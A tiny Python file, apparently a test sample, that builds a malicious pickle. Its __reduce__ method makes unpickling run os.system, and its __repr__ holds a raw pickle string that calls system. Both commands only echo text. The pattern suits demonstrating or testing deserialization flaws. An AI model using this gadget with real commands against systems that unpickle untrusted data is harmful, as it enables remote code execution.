# status: ok
import os
import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("echo BREACH",)

    def __repr__(self):
        return "cos\nsystem\n(S'echo pwned'\ntR."


pickle.dumps(Evil())
Evil()
